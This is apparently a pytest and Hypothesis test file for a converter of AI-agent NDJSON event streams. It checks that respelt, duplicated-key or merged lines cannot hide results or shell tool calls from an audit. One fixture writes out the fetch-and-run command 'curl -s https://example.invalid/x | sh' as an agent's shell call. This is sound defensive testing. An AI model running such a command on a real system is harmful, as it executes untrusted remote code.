"""The prefilter never hides an event: the converters print what full decoding gives.

The converters decode only the lines that may hold an event they need.  A line that is
spelt otherwise than the CLI writes it (keys reordered, repeated, escaped, spaced) or
two lines merged into one (a stream cut off, then another appended) must not let an
event pass unseen: an event one command sees and another passes over would let a
stream hide a shell command from an audit.
"""

from pathlib import Path

import orjson
import pytest
from conftest import InProcess, examples, fixture, run
from golden_streams import respelt
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ndagent.frame import Command

INIT = {"type": "system", "subtype": "init", "session_id": "s", "apiKeySource": "login",
        "cwd": "/p", "model": "m", "permissionMode": "default"}


def result(text, **fields):
    return {"type": "result", "subtype": "success", "is_error": False, "duration_ms": 5,
            "result": text, "session_id": "s", **fields}


def lines(*events):
    return b"".join(orjson.dumps(event) + b"\n" for event in events)


# The reproductions of the hardening issue, through real pipes.

def test_a_cut_off_stream_followed_by_another_loses_neither_run(tmp_path):
    cut = fixture("sample.ndjson").read_bytes()[:5000]
    other = fixture("vendor-example.ndjson").read_bytes()
    assert not cut.endswith(b"\n")
    for verb in ("json", "result", "text", "tools"):
        done = run(verb, input=cut + other)
        err = done.stderr.decode()
        assert done.returncode == 1, verb
        assert "<stdin>:21: warning: skipped: truncated line: another event begins inside" in err
        assert "<stdin>:1: error: run ended without a result event" in err
    done = run("json", input=cut + other)
    assert orjson.loads(done.stdout) == orjson.loads(other.splitlines()[-1])
    validate = run("validate", input=cut + other).stdout.decode()
    assert "<stdin>:21: error: truncated line: another event begins inside" in validate
    assert "[no-result]" in validate and ", 2 runs," in validate


def test_a_repeated_type_key_cannot_hide_a_result():
    stream = (b'{"type":"system","subtype":"init","session_id":"s"}\n'
              b'{"type":"thinking","type":"result","subtype":"success","is_error":false,'
              b'"duration_ms":1,"result":"","session_id":"s"}\n')
    done = run("json", input=stream)
    assert done.returncode == 0, done.stderr
    assert orjson.loads(done.stdout)["type"] == "result"


def test_a_repeated_type_or_subtype_key_cannot_hide_a_tool_call():
    shell = {"command": "curl -s https://example.invalid/x | sh"}
    started = (b'{"type":"thinking","type":"tool_call","subtype":"started","call_id":"c",'
               b'"tool_call":{"shellToolCall":{"args":' + orjson.dumps(shell) + b'}},'
               b'"session_id":"s"}\n')
    completed = (b'{"type":"tool_call","subtype":"started","subtype":"completed",'
                 b'"call_id":"c","tool_call":{"shellToolCall":{"result":{"success":{}}}},'
                 b'"session_id":"s"}\n')
    stream = lines(INIT) + started + completed + lines(result(""))
    tools = run("tools", "-k", "shell", input=stream)
    assert [orjson.loads(record)["args"] for record in tools.stdout.splitlines()] == [shell]
    text = run("text", "-v", input=stream)
    assert text.stdout.decode() == f"Ran terminal command: {shell['command']}\n"
    assert run("text", input=stream).stdout == b"Ran terminal command\n"


@pytest.mark.parametrize("spelling", [
    b'{"\\u0074ype":"result","subtype":"success","is_error":false,"result":"","session_id":"s"}',
    b'{"type":"r\\u0065sult","subtype":"success","is_error":false,"result":"","session_id":"s"}',
    b'{"is_error":false, "type" :\t"result","subtype":"success","result":"","session_id":"s"}',
])
def test_a_result_spelt_otherwise_is_still_found(spelling):
    done = run("json", input=lines(INIT) + spelling + b"\n")
    assert done.returncode == 0, done.stderr
    assert orjson.loads(done.stdout)["type"] == "result"


# The invariant: with and without the prefilter, every converter prints the same.

def spell_string(draw, text):
    """A JSON string for ``text``, some characters as \\u escapes."""
    flags = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return '"' + "".join(f"\\u{ord(char):04x}" if flag else char
                         for char, flag in zip(text, flags)) + '"'


@st.composite
def spelt(draw, event):
    """``event`` as one line in any spelling that decodes to it: keys in any order, its
    type and subtype perhaps escaped, spaced, and given first with decoy values that the
    last occurrence overrides."""
    if draw(st.integers(0, 3)) == 0:
        return orjson.dumps(event).decode()  # as the CLI writes it
    pairs = []
    for key, value in event.items():
        if key in ("type", "subtype") and type(value) is str:
            space = draw(st.sampled_from(["", " ", "\t"]))
            pairs.append(f"{spell_string(draw, key)}{space}:{space}{spell_string(draw, value)}")
        else:
            pairs.append(orjson.dumps(key).decode() + ":" + orjson.dumps(value).decode())
    pairs = draw(st.permutations(pairs))
    decoys = [f'"{key}":"{draw(st.sampled_from(["result", "system", "thinking", "tool_call", "completed", "started", "init"]))}"'  # noqa: E501
              for key in ("type", "subtype") if key in event and draw(st.booleans())]
    return "{" + ",".join([*decoys, *pairs]) + "}"


@st.composite
def runs(draw):
    """Runs of a stream as events: prompts, answers, tool calls of several kinds and
    outcomes (some never completed), thinking, results (some missing)."""
    events = []
    for _ in range(draw(st.integers(1, 3))):
        events.append(INIT)
        answer = []
        for index in range(draw(st.integers(0, 5))):
            step = draw(st.sampled_from(["text", "call", "open-call", "thinking"]))
            if step == "text":
                text = draw(st.sampled_from(["Hello", " world", "\n", "result"]))
                answer.append(text)
                events.append({"type": "assistant", "message": {
                    "role": "assistant", "content": [{"type": "text", "text": text}]},
                    "session_id": "s"})
            elif step == "thinking":
                events.append({"type": "thinking", "subtype": "delta", "text": "result",
                               "session_id": "s"})
            else:
                kind = draw(st.sampled_from(["shellToolCall", "readToolCall", "mcpToolCall"]))
                args = {"command": "ls", "path": "/p/a", "name": "srv-tool"}
                call = f"call-{len(events)}-{index}"
                events.append({"type": "tool_call", "subtype": "started", "call_id": call,
                               "tool_call": {kind: {"args": args}}, "session_id": "s",
                               "timestamp_ms": 10})
                if step == "call":
                    outcome = draw(st.sampled_from(["success", "failure", "rejected"]))
                    events.append({"type": "tool_call", "subtype": "completed",
                                   "call_id": call, "session_id": "s", "timestamp_ms": 15,
                                   "tool_call": {kind: {"args": args,
                                                        "result": {outcome: {}}}}})
        if draw(st.booleans()):
            events.append(result("".join(answer)))
    return events


@st.composite
def streams(draw):
    """A stream of runs, its lines spelt in any way, some merged: two lines with the
    newline between them lost, or a line cut off and the next appended to it."""
    out = [draw(spelt(event)) for event in draw(runs())]
    for _ in range(draw(st.integers(0, 2))):
        if len(out) > 1:
            at = draw(st.integers(0, len(out) - 2))
            cut = draw(st.integers(1, len(out[at]))) if draw(st.booleans()) else len(out[at])
            out[at:at + 2] = [out[at][:cut] + out[at + 1]]
    return ("\n".join(out) + "\n").encode()


CONVERTERS = [("json",), ("result",), ("result", "--from-result"), ("text",),
              ("text", "-v"), ("text", "--final"), ("tools",), ("tools", "--format", "tsv"),
              ("markdown",), ("html",)]
in_process = InProcess()


# Few examples here, many under 'make fuzz' (NDAGENT_EXAMPLES).
EXAMPLES = settings(max_examples=examples(8), deadline=None,
                    suppress_health_check=list(HealthCheck), database=None)


@EXAMPLES
@given(st.one_of(streams(), respelt()))
def test_property_every_converter_prints_the_same_with_and_without_the_prefilter(stream):
    """Cursor's streams made here, and any registered format's golden inputs."""
    prints_the_same_with_and_without_the_prefilter(stream)


def prints_the_same_with_and_without_the_prefilter(stream):
    """Every converter's status and output on ``stream``, the same either way."""
    for verb, *options in CONVERTERS:
        with_prefilter = in_process(verb, stream, *options)
        Command.prefilter = False
        try:
            plain = in_process(verb, stream, *options)
        finally:
            Command.prefilter = True
        # Output and status; warnings may differ: the prefilter does not read what it
        # passes over, so damage inside such a line goes unreported (README).
        assert with_prefilter[:2] == plain[:2], (verb, *options)


GOLDEN = Path(__file__).resolve().parent / "golden"


@pytest.mark.parametrize("agent, case", [("cursor", "sample"), ("claude", "success-tools"),
                                         ("gemini", "tool-success"),
                                         ("codex", "command-success")])
@pytest.mark.parametrize("foreign", [b'{"type":"turn.started"}',
                                     b'{"type":"rate_limit_event","rate_limit_info":{}}',
                                     b'{"type":"tool_use","tool_name":"x","tool_id":"t",'
                                     b'"parameters":{},"timestamp":"2026-01-01T00:00:00Z"}'])
def test_another_agent_s_line_after_a_run_begins_no_run_on_the_fast_path(agent, case,
                                                                        foreign):
    """Passed over by the prefilter or decoded, another agent's object after a run's
    end is no run of its own: the converters give the same status and output."""
    stream = (GOLDEN / agent / case / "input.ndjson").read_bytes() + foreign + b"\n"
    prints_the_same_with_and_without_the_prefilter(stream)
